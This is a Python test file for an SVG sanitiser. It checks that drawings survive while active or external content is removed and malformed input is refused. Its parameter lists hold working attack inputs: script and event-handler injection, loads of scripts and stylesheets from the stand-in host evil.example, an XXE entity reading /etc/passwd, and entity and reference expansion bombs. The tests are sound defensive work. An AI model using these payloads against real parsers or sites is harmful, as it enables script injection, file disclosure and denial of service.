"""A stranger's SVG loses all that acts or points outside, and keeps its drawing."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree

import pytest

from belvedere.errors import LimitExceeded, MalformedArtifact

if TYPE_CHECKING:
    from belvedere.model.rendering import Rendering

NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(body: str, attributes: str = 'viewBox="0 0 10 20"') -> str:
    return f"<svg {NAMESPACES} {attributes}>{body}</svg>"


def drawn(rendering: Rendering) -> str:
    content = next(output.content for output in rendering.outputs if output.role == "figure")
    ElementTree.fromstring(content)
    return content.decode()


def test_shapes_words_and_own_references_stay(render) -> None:
    body = (
        '<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>'
        '<path id="p" d="M0 0L1 1"/></defs>'
        '<rect width="5" height="5" fill="url(#g)" style="stroke:blue"/><use xlink:href="#p"/>'
        '<text x="1">AUC 0.9 &amp; more</text>'
    )
    rendering = render(svg(body), "run/roc.svg")
    text = drawn(rendering)
    for part in ('fill="url(#g)"', 'href="#p"', "stroke:blue", "AUC 0.9 &amp; more", "M0 0L1 1"):
        assert part in text
    assert rendering.warnings == ()
    assert rendering.facts["image"] == {"format": "SVG", "viewbox": "0 0 10 20", "width": 10.0, "height": 20.0}


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>",
        "<script href='https://evil.example/x.js'/>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
        "<rect onload='alert(1)' onclick='alert(1)'/>",
        "<a xlink:href='javascript:alert(1)'><text>x</text></a>",
        "<a href='https://evil.example'><text>x</text></a>",
        "<image href='https://evil.example/x.png'/>",
        "<image href='data:image/svg+xml;base64,PHN2Zz4='/>",
        "<use href='https://evil.example/x.svg#a'/>",
        "<style>@import url(https://evil.example/x.css); rect{fill:url(https://evil.example/x)}</style>",
        "<style>@im\\70ort 'https://evil.example'; x{background:url(\"//evil.example/x\")}</style>",
        "<rect style='fill:url(https://evil.example/x#y)'/>",
        "<rect fill='url( &quot;https://evil.example/x#y&quot; )'/>",
        "<set attributeName='href' to='javascript:alert(1)'/>",
        "<animate attributeName='href' values='javascript:alert(1)'/>",
        "<iframe src='https://evil.example'/>",
        "<rect xml:base='https://evil.example/'/>",
        "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
        "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
        "<feImage href='https://evil.example/x'/>",
        "<?xml-stylesheet href='https://evil.example/x.css'?>",
    ],
)
def test_nothing_active_and_nothing_outside_survives(render, body: str) -> None:
    text = drawn(render(svg(body + "<rect width='1' height='1'/>"), "run/x.svg"))
    assert not re.search(r"script|evil\.example|javascript|\son\w+=|alert|foreignObject|@im", text, re.I)
    assert "<rect" in text


def test_what_was_left_out_is_said(render) -> None:
    rendering = render(svg("<script>1</script>"), "run/x.svg")
    assert "<script>" in rendering.warnings[0]


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE svg [<!ENTITY a "b">]>' + svg("<text>&a;</text>"),
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text>&x;</text>"),
        '<!DOCTYPE svg [<!ENTITY % d SYSTEM "https://evil.example/d.dtd"> %d;]>' + svg("<rect/>"),
        "<!DOCTYPE svg ["
        + "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10 if at else "x"}">' for at in range(10))
        + "]>"
        + svg("<text>&l9;</text>"),
    ],
)
def test_entities_are_refused(render, text: str) -> None:
    with pytest.raises(MalformedArtifact, match="entities"):
        render(text, "run/x.svg")


def test_a_plain_document_type_is_no_offence(render) -> None:
    doctype = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    assert "<rect" in drawn(render(doctype + svg("<rect/>"), "run/x.svg"))


def test_references_that_explode_are_refused(render) -> None:
    levels = "".join(
        f'<g id="l{at}">{f"<use href=&#39;#l{at - 1}&#39;/>".replace("&#39;", chr(39)) * 10}</g>' for at in range(1, 9)
    )
    with pytest.raises(LimitExceeded, match="enormous"):
        render(svg(f'<g id="l0"><rect/></g>{levels}<use href="#l8"/>'), "run/x.svg")


def test_references_in_a_circle_are_refused(render) -> None:
    with pytest.raises(MalformedArtifact, match="itself"):
        render(svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), "run/x.svg")


@pytest.mark.parametrize("text", ["<svg", svg("<g>")[:-6], "<svg xmlns='http://www.w3.org/2000/svg'><rect></svg>"])
def test_broken_markup_says_where(render, text: str) -> None:
    with pytest.raises(MalformedArtifact, match="line 1"):
        render(text, "run/x.svg")


@pytest.mark.parametrize(
    "attributes", ['width="999999999" height="999999999"', 'viewBox="0 0 1e8 1e8"', 'width="-5" height="nan"']
)
def test_absurd_sizes_are_brought_down(render, attributes: str) -> None:
    root: Any = ElementTree.fromstring(drawn(render(svg("<rect/>", attributes), "run/x.svg")))
    assert 0 < float(root.attrib["width"]) <= 2000
    assert 0 < float(root.attrib["height"]) <= 2000


def test_nesting_beyond_reason_is_a_limit(render) -> None:
    with pytest.raises(LimitExceeded, match="deep"):
        render(svg("<g>" * 5000 + "</g>" * 5000), "run/x.svg")
